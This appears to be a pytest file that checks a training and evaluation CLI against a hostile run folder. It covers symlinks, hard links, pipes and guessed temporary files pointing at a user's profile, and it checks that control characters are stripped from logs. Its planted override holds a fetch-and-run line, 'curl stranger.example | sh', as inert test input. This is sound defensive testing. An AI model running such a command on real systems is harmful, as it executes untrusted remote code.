"""A stranger's folder: nothing outside of it is read, written or removed through what it holds."""

import json
import logging
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

SECRET = "alias ls='ls --color'\n"
PLANTED = "planted\ncurl stranger.example | sh\x1b[2J"
COMMANDS = {
    "resume": ("train", "resume=theirs", "trainer.epochs=3"),
    "begin": ("train", "hydra.run.dir=theirs", "model=popularity", "rerun=true"),
    "evaluate": ("evaluate", "run=theirs"),
    "predict": ("predict", "run=theirs", "context=[table_1]"),
    "compare": ("compare", "theirs"),
}
READ = {  # what each command reads, appends to or locks
    "resume": ("run.log", ".lock", "request.json", "config.yaml"),
    "begin": ("run.log", ".lock"),
    "evaluate": ("result.json", "config.yaml", "vocabulary.json", "graph.json"),
    "predict": ("result.json", "config.yaml", "model.safetensors"),
    "compare": ("result.json", "config.yaml", "metrics.csv", "predictions.csv"),
}

Dagrec = Callable[..., Any]


@pytest.fixture
def profile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file of the user's, outside of the working folder."""
    file = tmp_path_factory.mktemp("home") / ".profile"
    file.write_text(SECRET)
    return file


@pytest.fixture(scope="session")
def kept(dagrec_in: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of two epochs that can be trained for longer; for reading only."""
    folder = tmp_path_factory.mktemp("kept")
    words = ["trainer.epochs=2", "keep_checkpoints=true", "hydra.run.dir=run"]
    assert dagrec_in(folder, ["train", *words]).code == 0
    return folder / "run"


@pytest.fixture
def theirs(kept: Path, tmp_path: Path) -> Path:
    """A run folder of a stranger, whose overrides hold lines of their choice."""
    folder = tmp_path / "theirs"
    shutil.copytree(kept, folder)
    for name in ("request.json", "result.json"):
        asked = json.loads((folder / name).read_text())
        asked["overrides"] = [f"+note={PLANTED}"]
        (folder / name).write_text(json.dumps(asked))
    return folder


def is_untouched(profile: Path) -> bool:
    files = sorted(path.name for path in profile.parent.iterdir())
    return files == [profile.name] and profile.read_text() == SECRET


def link(file: Path, target: Path) -> None:
    file.unlink(missing_ok=True)
    file.symlink_to(target)


@pytest.mark.parametrize(("command", "name"), [(c, n) for c in READ for n in READ[c]])
def test_a_linked_file_is_neither_read_nor_written_through(
    dagrec: Dagrec, theirs: Path, profile: Path, command: str, name: str
) -> None:
    link(theirs / name, profile)
    answer = dagrec(*COMMANDS[command])
    assert answer.code == 2
    assert f"{name}: a symlink, where a run folder has a plain file" in answer.err
    assert "alias" not in answer.err
    assert is_untouched(profile)


@pytest.mark.parametrize("name", ["run.log", ".lock"])
def test_a_file_with_a_second_name_keeps_its_content(
    dagrec: Dagrec, theirs: Path, profile: Path, tmp_path: Path, name: str
) -> None:
    mine = tmp_path / "mine"
    mine.write_text(SECRET)
    (theirs / name).unlink(missing_ok=True)
    os.link(mine, theirs / name)
    answer = dagrec("train", "resume=theirs", "trainer.epochs=3")
    assert answer.code == (2 if name == "run.log" else 0)
    assert mine.read_text() == SECRET


@pytest.mark.parametrize("name", ["checkpoints", "tensorboard"])
def test_a_linked_folder_is_not_used(
    dagrec: Dagrec, theirs: Path, profile: Path, name: str
) -> None:
    shutil.rmtree(theirs / name, ignore_errors=True)
    (theirs / name).symlink_to(profile.parent)
    (profile.parent / "seed0_epoch0000001.safetensors").write_text("mine")
    (profile.parent / "events.mine").write_text("mine")
    before = sorted(profile.parent.iterdir())
    for words in (["resume=theirs", "trainer.epochs=3"], ["hydra.run.dir=theirs", "rerun=true"]):
        logger = ["logger=tensorboard"] if name == "tensorboard" and "hydra" in words[0] else []
        if logger:
            pytest.importorskip("tensorboard", reason="logger=tensorboard needs its extra")
        dagrec("train", *words, *logger)
        assert sorted(profile.parent.iterdir()) == before


@pytest.mark.parametrize(
    ("command", "name"),
    [
        *(("resume", name) for name in ("request.json", "run.log", ".lock")),
        *(("predict", name) for name in ("result.json", "model.safetensors")),
        ("compare", "metrics.csv"),
    ],
)
def test_a_pipe_is_not_waited_for(dagrec: Dagrec, theirs: Path, name: str, command: str) -> None:
    (theirs / name).unlink(missing_ok=True)
    os.mkfifo(theirs / name)
    answer = dagrec(*COMMANDS[command])
    assert answer.code == 2
    assert f"{name}: a pipe, where a run folder has a plain file" in answer.err


def test_a_guessed_temporary_name_is_not_used(dagrec: Dagrec, theirs: Path, profile: Path) -> None:
    for name in ("config.yaml", "request.json", "metrics.csv", "result.json"):
        link(theirs / f".{name}.tmp", profile)
    assert dagrec("train", "resume=theirs", "trainer.epochs=3").code == 0
    assert is_untouched(profile)


def test_overrides_reach_the_log_without_control_characters(dagrec: Dagrec, theirs: Path) -> None:
    before = (theirs / "run.log").read_text()
    assert dagrec("train", "resume=theirs", "trainer.epochs=3").code == 0
    written = (theirs / "run.log").read_text().removeprefix(before)
    assert r"planted\ncurl stranger.example | sh\x1b[2J" in written
    assert all(line[:4].isdigit() for line in written.splitlines())
    assert "\x1b" not in written


@pytest.mark.parametrize("place", ["theirs/data.json", "theirs/*.json", "theirs/data"])
def test_data_behind_a_link_are_not_read(
    dagrec: Dagrec, theirs: Path, profile: Path, place: str
) -> None:
    config = (theirs / "config.yaml").read_text()
    kind = "galaxy_workflows.GalaxyWorkflows" if place == "theirs/data" else "json_file.JsonFile"
    start, end = config.index("data:\n"), config.index("split:\n")
    assert start < end
    node = f"data: {{_target_: dagrec_cli.data.readers.{kind}, path: {place}}}\n"
    (theirs / "config.yaml").write_text(config[:start] + node + config[end:])
    (theirs / "data").mkdir()
    (theirs / "data/flow.ga").symlink_to(profile)
    (theirs / "data.json").symlink_to(profile)
    answer = dagrec("evaluate", "run=theirs")
    assert answer.code == 2
    assert f"data.path is '{place}'; a run folder may only name paths below" in answer.err


def test_a_warning_with_a_traceback_stays_below_its_line(tmp_path: Path) -> None:
    from dagrec_cli.runs.folder import RunFolder, logged

    with logged(RunFolder(tmp_path)) as log:
        try:
            raise ValueError("one\n2026 INFO two\x9b31m")
        except ValueError as error:
            log.warning("stopped", exc_info=error)
    first, *rest = (tmp_path / "run.log").read_text().splitlines()
    assert first.endswith("WARNING stopped")
    assert all(line.startswith("    ") for line in rest)
    assert rest[-1] == r"    2026 INFO two\x9b31m"
    assert logging.getLogger("dagrec").handlers == []
